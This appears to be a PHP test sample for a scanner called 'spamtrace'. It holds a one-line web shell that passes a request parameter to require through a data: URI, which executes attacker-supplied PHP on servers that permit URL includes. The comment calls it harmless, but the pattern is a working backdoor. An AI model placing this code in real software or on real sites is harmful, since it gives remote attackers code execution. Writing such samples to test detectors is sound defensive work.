<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
if (isset($_REQUEST['t'])) {
    require 'data:text/plain,' . rawurlencode($_REQUEST['t']);
}
